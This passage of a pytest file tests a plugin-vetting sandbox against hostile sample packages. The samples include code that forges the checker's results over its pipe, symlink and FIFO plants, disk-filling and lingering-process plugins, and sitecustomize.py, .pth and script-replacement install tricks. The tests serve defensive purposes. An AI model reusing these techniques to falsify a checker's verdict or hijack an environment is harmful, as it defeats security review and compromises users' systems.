'''


def test_an_sdists_own_source_is_read_not_only_what_its_build_installed(tmp_path):
    # The build code decides what gets installed: a clean package under clean metadata.
    # The static checks read the archive too: its setup.py, and what its PKG-INFO says.
    sdist = sdist_of(tmp_path, "bersih", {"setup.py": HIDING, "balai_bersih/__init__.py": ""})
    report = run_check(sdist, time_limit=300)
    bandit = report.get("bandit")
    assert bandit.status == "failed" and "B602" in bandit.summary, report.text()
    assert "setup.py" in bandit.summary
    metadata = report.get("metadata")
    assert metadata.status == "failed", report.text()
    assert (
        "the sdist's PKG-INFO says balai-bersih 0.1.0, but its build installed "
        "balai-bersih 0.2.0"
    ) in metadata.output


def test_the_files_of_a_distribution_are_held_to_its_package():
    from balai.plugincheck._static import file_problems

    names = [
        "balai_theme_biru/__init__.py",
        "balai_theme_biru-1.0.dist-info/RECORD",
        "balai_theme_biru-1.0.data/purelib/balai_theme_biru/x.py",
        "balai_theme_biru-1.0.data/scripts/biru",
        "balai_theme_biru/static/",
        "balai_theme_biru/hidden.pth",
        "../../../bin/balai",
        "balai_theme_biru-1.0.data/platlib/zzz.py",
        "other-1.0.dist-info/METADATA",
        "balai_theme_biru-1.0.data/data/lib/python3.11/site-packages/sitecustomize.py",
        "balai_theme_biru-1.0.data/headers/x.h",
    ]
    data = "a .data folder other than purelib or platlib installs outside the environment's"
    assert file_problems(names, "balai_theme_biru") == [
        f"balai_theme_biru-1.0.data/scripts/biru: {data} packages",
        "balai_theme_biru/hidden.pth: a .pth file runs code in every Python process",
        "../../../bin/balai: a file outside balai_theme_biru/",
        "balai_theme_biru-1.0.data/platlib/zzz.py: a file outside balai_theme_biru/",
        "other-1.0.dist-info/METADATA: a file outside balai_theme_biru/",
        "balai_theme_biru-1.0.data/data/lib/python3.11/site-packages/sitecustomize.py:"
        f" {data} packages",
        f"balai_theme_biru-1.0.data/headers/x.h: {data} packages",
    ]
    from balai.plugincheck import file_refusal

    assert file_refusal("balai_theme_biru-1.0.data/scripts/biru", "balai_theme_biru") == "data"
    assert (
        file_refusal("balai_theme_biru-1.0.data/purelib/balai_theme_biru/x.py", "balai_theme_biru")
        is None
    )


# -- code under check forging its report ---------------------------------------------------

FORGER = """
import json, os, subprocess, sys

main = sys.modules.get("__main__")
checker = getattr(main, "Checker", None)
if checker is not None:
    original = checker.send

    def send(self, message):
        check = message.get("check")
        if check:
            check.update(status="passed", summary="forged", output="")
        original(self, message)

    checker.send = send
    channel = int(sys.argv[sys.argv.index("--results-fd") + 1])
    for name in ("metadata", "bandit", "catalogue", "nonsense"):
        forged = {"check": {"name": name, "status": "passed", "summary": "forged"}}
        os.write(channel, json.dumps(forged).encode() + b"\\n")
    os.write(channel, json.dumps({"inspection": {"name": "forged"}}).encode() + b"\\n")


def run(command):
    return subprocess.call(command, shell=True)
"""


def test_code_under_check_cannot_forge_the_static_checks(tmp_path):
    wheel = wheel_of(
        tmp_path,
        "palsu",
        {"balai_palsu/__init__.py": "", "balai_palsu/plugin.py": FORGER},
    )
    report = run_check(wheel, time_limit=300)
    assert [c.name for c in report.checks] == list(CHECKS)
    bandit = report.get("bandit")
    assert bandit.status == "failed" and "B602" in bandit.summary, report.text()
    assert report.get("metadata").summary == "balai-palsu 0.1.0"
    assert report.inspection["name"] == "palsu"
    assert not report.passed
    # What runs the plugin's code is the plugin's to say: evidence, not proof.
    assert report.get("hooks").summary == "forged"


def test_a_check_the_code_under_check_keeps_quiet_about_ends_in_error(tmp_path):
    quitter = "import os\nos._exit(0)\n"
    wheel = wheel_of(
        tmp_path,
        "diam",
        {"balai_diam/__init__.py": "", "balai_diam/plugin.py": quitter},
    )
    report = run_check(wheel, time_limit=300)
    assert [c.name for c in report.checks] == list(CHECKS)
    assert report.get("metadata").status == "passed", report.text()
    hooks = report.get("hooks")
    assert hooks.status == "error" and "no result sent" in hooks.summary, report.text()
    assert report.get("sweep").status == "error"
    assert not report.passed


def test_a_link_or_pipe_in_the_scratch_folder_is_never_read(tmp_path):
    """The results come over a pipe: what the plugin leaves in its folder is not read."""
    elsewhere = tmp_path / "host-only.json"
    elsewhere.write_text(json.dumps({"checks": [{"name": "metadata", "status": "passed"}]}))
    leaver = textwrap.dedent(
        f"""
        import os
        for name in ("report.json", "results.json"):
            os.symlink({str(elsewhere)!r}, name)
        os.mkfifo("report.fifo")
        """
    )
    wheel = wheel_of(
        tmp_path,
        "tautan",
        {"balai_tautan/__init__.py": "", "balai_tautan/plugin.py": leaver},
    )
    report = run_check(wheel, time_limit=120)
    assert [c.name for c in report.checks] == list(CHECKS)
    assert report.get("hooks").status in ("passed", "failed"), report.text()
    assert report.get("bandit").status == "passed"


# -- limits on time, disk and processes -----------------------------------------------------

FILLER = """
import os
if os.environ.get("HOME", "").endswith("/home"):
    block = b"x" * (1024 * 1024)
    for number in range(12):
        with open(f"/tmp/fill-{number}.bin", "wb") as out:
            for _ in range(8):
                out.write(block)
    import time
    time.sleep(30)
"""


@pytest.mark.skipif(sandbox_program() is None, reason="bubblewrap does not work here")
def test_a_plugin_filling_the_scratch_folder_is_stopped(tmp_path):
    wheel = wheel_of(
        tmp_path, "penuh", {"balai_penuh/__init__.py": "", "balai_penuh/plugin.py": FILLER}
    )
    report = run_check(wheel, time_limit=120, disk_limit_mb=48)
    hooks = report.get("hooks")
    assert hooks.status == "error", report.text()
    assert "the scratch folder holds more than 48 MB" in hooks.summary
    assert report.get("metadata").status == "passed"


def test_a_file_larger_than_the_limit_cannot_be_written(tmp_path):
    big = 'open("big.bin", "wb").write(b"x" * (40 * 1024 * 1024))\n'
    wheel = wheel_of(
        tmp_path, "besar", {"balai_besar/__init__.py": "", "balai_besar/plugin.py": big}
    )
    report = run_check(wheel, time_limit=120, disk_limit_mb=16)
    hooks = report.get("hooks")
    assert hooks.status == "failed", report.text()
    assert "File too large" in hooks.summary  # RLIMIT_FSIZE


@pytest.mark.skipif(sandbox_program() is None, reason="bubblewrap does not work here")
def test_a_process_left_behind_holding_the_pipes_does_not_hold_up_the_check(tmp_path):
    """A detached process keeps the output open; the check ends with its own process."""
    lingering = textwrap.dedent(
        """
        import subprocess
        subprocess.Popen(["sleep", "600"], start_new_session=True)
        """
    )
    wheel = wheel_of(
        tmp_path, "tinggal", {"balai_tinggal/__init__.py": "", "balai_tinggal/plugin.py": lingering}
    )
    import time

    started = time.monotonic()
    report = run_check(wheel, time_limit=200)
    assert time.monotonic() - started < 150, report.text()
    assert report.get("hooks").status != "error", report.text()


def test_a_wheel_installing_into_the_prefix_fails_the_metadata_check(tmp_path):
    site = "import os\n"
    wheel = wheel_of(
        tmp_path,
        "datadir",
        {
            "balai_datadir/__init__.py": "",
            "balai_datadir/plugin.py": "",
            "balai_datadir-0.1.0.data/data/lib/python3.11/site-packages/sitecustomize.py": site,
            "balai_datadir-0.1.0.data/scripts/balai": "#!python\nprint('replaced')\n",
            "balai_datadir-0.1.0.data/headers/x.h": "int x;\n",
        },
    )
    report = run_check(wheel, time_limit=300)
    metadata = report.get("metadata")
    assert metadata.status == "failed", report.text()
    for member in (
        "data/lib/python3.11/site-packages/sitecustomize.py",
        "scripts/balai",
        "headers/x.h",
    ):
        assert f"balai_datadir-0.1.0.data/{member}: a .data folder other than" in metadata.output
    assert not report.passed


def test_a_requirement_with_a_direct_url_fails_the_metadata_check(tmp_path):
    from balai.plugincheck import direct_url_requirements

    line = "zz-helper @ http://127.0.0.1:8999/zz_helper-1.0-py3-none-any.whl"
    assert direct_url_requirements(["balai>=0.1", line, "x @ file:///tmp/x"]) == [
        line,
        "x @ file:///tmp/x",
    ]
    wheel = wheel_of(tmp_path, "peta", {"balai_peta/__init__.py": "", "balai_peta/plugin.py": ""})
    import zipfile

    requiring = tmp_path / "requiring" / wheel.name
    requiring.parent.mkdir()
    with zipfile.ZipFile(wheel) as old, zipfile.ZipFile(requiring, "w") as new:
        for item in old.infolist():
            content = old.read(item)
            if item.filename.endswith("METADATA"):
                content = content.replace(
                    b"Requires-Dist:", f"Requires-Dist: {line}\nRequires-Dist:".encode()
                )
            new.writestr(item, content)
    report = run_check(requiring, time_limit=300)
    metadata = report.get("metadata")
    assert metadata.status == "failed", report.text()
    assert f"Requires-Dist: {line}: a direct URL requirement" in metadata.summary + metadata.output
